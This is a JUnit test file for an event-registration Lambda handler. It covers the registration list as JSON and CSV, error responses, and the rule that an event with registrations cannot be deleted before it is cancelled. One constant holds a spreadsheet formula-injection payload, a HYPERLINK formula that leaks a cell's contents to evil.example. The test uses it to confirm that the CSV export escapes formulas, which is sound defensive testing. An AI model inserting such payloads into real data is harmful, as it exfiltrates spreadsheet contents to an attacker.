package fr.nogentech.events.functions;

import com.fasterxml.jackson.databind.JsonNode;
import fr.nogentech.events.config.ConfigKeys;
import fr.nogentech.events.event.Event;
import fr.nogentech.events.event.EventStatus;
import fr.nogentech.events.event.RegistrationOptions;
import fr.nogentech.events.event.Venue;
import fr.nogentech.events.http.HttpResponse;
import fr.nogentech.events.json.Json;
import fr.nogentech.events.lambda.ApiGatewayHttp;
import fr.nogentech.events.lambda.FunctionHandler;
import fr.nogentech.events.local.ChecksPermissions;
import fr.nogentech.events.local.LocalAws;
import fr.nogentech.events.local.SampleEvents;
import fr.nogentech.events.local.TestStack;
import fr.nogentech.events.registration.Registrant;
import fr.nogentech.events.store.EventStore;
import fr.nogentech.events.store.RegistrationStore;
import fr.nogentech.events.subscription.EmailAddress;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;

import java.time.Clock;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalTime;
import java.time.ZoneId;
import java.time.ZonedDateTime;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The organisers' list of registrations as Lambda serves it, on moto: counts and order as JSON, a CSV a spreadsheet
 * reads back safely, the refusals (unknown event, unsupported Accept, no administrator), and the deletion of an event
 * people are registered to, refused until it is cancelled.
 */
@ChecksPermissions("ManageEventsFunction")
class RegistrationListHandlerTest {

    private static final ZoneId PARIS = ZoneId.of("Europe/Paris");
    private static final Instant T0 = Instant.parse("2030-01-10T09:00:00Z");
    private static final String EVIL_ORGANIZATION = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"clic\")";
    private static final String TRICKY_NAME = "Dupont, Jean \"le Grand\"";

    private static DynamoDbClient dynamoDb;
    private static EventStore events;
    private static RegistrationStore registrations;
    private static ManageEventsHandler handler;

    @BeforeAll
    static void handlerOnMoto() {
        LocalAws moto = TestStack.moto();
        String table = TestStack.newEventsTable(moto, "registration-list");
        dynamoDb = moto.dynamoDb();
        events = new EventStore(dynamoDb, table, Clock.systemUTC());
        registrations = new RegistrationStore(dynamoDb, table);
        handler = new ManageEventsHandler(FunctionHandler.configured(Map.of(ConfigKeys.EVENTS_TABLE, table)));
    }

    @AfterAll
    static void close() {
        handler.close();
        dynamoDb.close();
    }

    /** A breakfast in ten days with {@code capacity} seats. */
    private static Event breakfast(String id, int capacity) {
        LocalDate day = LocalDate.now(PARIS).plusDays(10);
        return events.create(
                new Event(
                        id,
                        "Petit-déjeuner " + id,
                        "rencontres-du-jeudi",
                        ZonedDateTime.of(day, LocalTime.of(8, 30), PARIS),
                        ZonedDateTime.of(day, LocalTime.of(10, 30), PARIS),
                        PARIS,
                        new Venue("Canopé", "Chaumont"),
                        List.of(),
                        EventStatus.SCHEDULED,
                        0,
                        null,
                        null,
                        new RegistrationOptions(capacity, null)),
                "test");
    }

    private static Registrant who(String name, String address, String organization) {
        return new Registrant(name, EmailAddress.parse(address, "email"), organization);
    }

    private static Instant at(int minutes) {
        return T0.plusSeconds(60L * minutes);
    }

    /**
     * Two seats: Paul gets the first (at 1), Marie the second (at 2); Zoé (at 4) then Luc (at 3) go on the waiting
     * list, Luc first; Anne only asked (pending); Jules was waitlisted, then cancelled.
     */
    private static Event registered(String id) {
        Event event = breakfast(id, 2);
        Instant end = event.end().toInstant();
        registrations.register(id, who("Marie Curie", "marie@liste.example", "Radium SA"), 2, at(2), end);
        registrations.register(id, who(TRICKY_NAME, "paul@liste.example", EVIL_ORGANIZATION), 2, at(1), end);
        registrations.register(id, who("Zoé", "zoe@liste.example", null), 2, at(4), end);
        registrations.register(id, who("Luc", "luc@liste.example", "-10 % SARL"), 2, at(3), end);
        registrations.request(id, who("Anne", "anne@liste.example", null), at(5), java.time.Duration.ZERO, end);
        registrations.register(id, who("Jules", "jules@liste.example", null), 2, at(6), end);
        registrations.cancel(
                id, EmailAddress.parse("jules@liste.example", "email").hash(), at(7));
        return event;
    }

    private static JsonNode list(String id, String accept, String admin) {
        Map<String, String> headers = new HashMap<>();
        if (accept != null) {
            headers.put("accept", accept);
        }
        return ApiGatewayHttp.event(
                "GET /admin/events/{id}/registrations",
                "/admin/events/" + id + "/registrations",
                Map.of("id", id),
                Map.of(),
                headers,
                null,
                admin);
    }

    private static JsonNode delete(String id) {
        return ApiGatewayHttp.event(
                "DELETE /events/{id}", "/events/" + id, Map.of("id", id), Map.of(), Map.of(), null, "alice");
    }

    private static JsonNode patch(String id, String body) {
        return ApiGatewayHttp.event(
                "PATCH /events/{id}",
                "/events/" + id,
                Map.of("id", id),
                Map.of(),
                Map.of("content-type", "application/merge-patch+json"),
                body,
                "alice");
    }

    @Test
    void listsCountsAndRegistrationsInOrderAsJson() throws Exception {
        registered("liste-json");
        HttpResponse response = handler.serve(list("liste-json", null, "alice"));
        assertEquals(200, response.status(), response.body());
        assertEquals("application/json; charset=utf-8", response.header("Content-Type"));
        assertEquals("no-store", response.header("Cache-Control"));
        JsonNode json = Json.MAPPER.readTree(response.body());
        assertEquals("liste-json", json.get("event").asText());
        assertEquals(2, json.get("capacity").asInt());
        assertEquals(
                Json.MAPPER.readTree("{\"confirmed\": 2, \"waitlisted\": 2, \"pending\": 1, \"cancelled\": 1}"),
                json.get("counts"));
        List<String> order = new ArrayList<>();
        json.get("items")
                .forEach(item -> order.add(
                        item.get("state").asText() + " " + item.get("email").asText()));
        assertEquals(
                List.of(
                        "confirmed paul@liste.example",
                        "confirmed marie@liste.example",
                        "waitlisted luc@liste.example",
                        "waitlisted zoe@liste.example",
                        "pending anne@liste.example",
                        "cancelled jules@liste.example"),
                order);
        JsonNode paul = json.get("items").get(0);
        assertEquals(TRICKY_NAME, paul.get("name").asText());
        assertEquals(EVIL_ORGANIZATION, paul.get("organization").asText(), "JSON carries the data as it is");
        assertEquals(at(1).toString(), paul.get("registeredAt").asText());
        assertEquals(at(1).toString(), paul.get("confirmedAt").asText());
        JsonNode anne = json.get("items").get(4);
        assertTrue(anne.get("confirmedAt").isNull());
        assertTrue(anne.get("organization").isNull());
        assertEquals(
                2,
                registrations.seatsTaken("liste-json"),
                "the pending and the waiting take no seat: the public `remaining` counts confirmed seats only");
    }

    @Test
    void theSamplePayloadOfEventsAsksForTheCsv() {
        registered("2023-10-12-reseaux-sociaux-dans-l-industrie");
        HttpResponse response = handler.serve(SampleEvents.event("registration-list.json"));
        assertEquals(200, response.status(), response.body());
        assertEquals("text/csv; charset=utf-8", response.header("Content-Type"));
        assertTrue(response.body().startsWith("state,name,organization,email,registered_at,confirmed_at\r\n"));
    }

    @Test
    void theCsvReadsBackWithItsQuotesAndNoFormula() {
        registered("liste-csv");
        HttpResponse response = handler.serve(list("liste-csv", "text/csv", "alice"));
        assertEquals(200, response.status(), response.body());
        assertEquals("text/csv; charset=utf-8", response.header("Content-Type"));
        assertEquals("attachment; filename=\"liste-csv-inscriptions.csv\"", response.header("Content-Disposition"));
        assertEquals("no-store", response.header("Cache-Control"));
        String csv = response.body();
        assertTrue(csv.endsWith("\r\n"), "CRLF line ends");
        assertFalse(csv.replace("\r\n", "").contains("\n"), "no bare LF");

        List<List<String>> rows = parse(csv);
        assertEquals(List.of("state", "name", "organization", "email", "registered_at", "confirmed_at"), rows.get(0));
        assertEquals(7, rows.size(), csv);
        List<String> paul = rows.get(1);
        assertEquals("confirmed", paul.get(0));
        assertEquals(TRICKY_NAME, paul.get(1), "a comma and quotes survive the round trip");
        assertEquals("'" + EVIL_ORGANIZATION, paul.get(2), "a formula is text for a spreadsheet");
        assertEquals("paul@liste.example", paul.get(3));
        assertEquals(at(1).toString(), paul.get(4));
        assertEquals(at(1).toString(), paul.get(5));
        assertEquals(
                List.of("waitlisted", "Luc", "'-10 % SARL", "luc@liste.example", at(3).toString(), ""), rows.get(3));
        assertEquals("pending", rows.get(5).get(0));
        assertEquals("", rows.get(5).get(5));
        assertEquals("cancelled", rows.get(6).get(0));
        assertTrue(csv.contains("\"Dupont, Jean \"\"le Grand\"\"\""), "RFC 4180: quoted, quotes doubled");
    }

    @Test
    void anUnknownEventIs404AndAnUnsupportedAcceptIs406() throws Exception {
        HttpResponse missing = handler.serve(list("pas-d-evenement", null, "alice"));
        assertEquals(404, missing.status(), missing.body());
        assertEquals(
                "/problems/not-found",
                Json.MAPPER.readTree(missing.body()).get("type").asText());

        breakfast("liste-406", 5);
        HttpResponse refused = handler.serve(list("liste-406", "application/pdf", "alice"));
        assertEquals(406, refused.status(), refused.body());
        assertEquals(
                "/problems/not-acceptable",
                Json.MAPPER.readTree(refused.body()).get("type").asText());
        assertEquals(
                200,
                handler.serve(list("liste-406", "text/csv;q=0.5, */*;q=0.1", "alice"))
                        .status());
    }

    @Test
    void withoutTheAuthorizersAdministratorItIs403AndShowsNoOne() {
        registered("liste-403");
        HttpResponse refused = handler.serve(list("liste-403", "text/csv", null));
        assertEquals(403, refused.status(), refused.body());
        assertEquals("application/problem+json; charset=utf-8", refused.header("Content-Type"));
        assertFalse(refused.body().contains("liste.example"), refused.body());
        assertNull(refused.header("Content-Disposition"));
    }

    @Test
    void anEventPeopleAreRegisteredToIsCancelledBeforeItIsDeleted() throws Exception {
        registered("a-supprimer");
        HttpResponse refused = handler.serve(delete("a-supprimer"));
        assertEquals(409, refused.status(), refused.body());
        JsonNode problem = Json.MAPPER.readTree(refused.body());
        assertEquals("/problems/registrations-exist", problem.get("type").asText());
        assertEquals(
                "The event has 4 registrations: set its status to cancelled first (PATCH {\"status\": \"cancelled\"})"
                        + " so that they are told, then delete it.",
                problem.get("detail").asText());
        assertTrue(events.find("a-supprimer").isPresent(), "nothing deleted");

        HttpResponse cancelled = handler.serve(patch("a-supprimer", "{\"status\": \"cancelled\"}"));
        assertEquals(200, cancelled.status(), cancelled.body());
        assertEquals(204, handler.serve(delete("a-supprimer")).status());
        assertTrue(events.find("a-supprimer").isEmpty());
    }

    @Test
    void anEventWithOnlyPendingOrCancelledRegistrationsIsDeleted() {
        Event event = breakfast("sans-inscrit", 3);
        Instant end = event.end().toInstant();
        registrations.request(
                "sans-inscrit", who("Anne", "anne@vide.example", null), at(1), java.time.Duration.ZERO, end);
        assertEquals(204, handler.serve(delete("sans-inscrit")).status());
    }

    /** RFC 4180, read back as a spreadsheet would (quoted fields, doubled quotes, CRLF between records). */
    private static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                assertEquals(0, field.length(), "a quote inside an unquoted field: " + csv);
                quoted = true;
            } else if (c == ',') {
                row.add(field.toString());
                field.setLength(0);
            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                row.add(field.toString());
                field.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                field.append(c);
            }
        }
        assertFalse(quoted, "an unclosed quote");
        assertTrue(row.isEmpty() && field.length() == 0, "the last record ends with CRLF");
        return rows;
    }
}
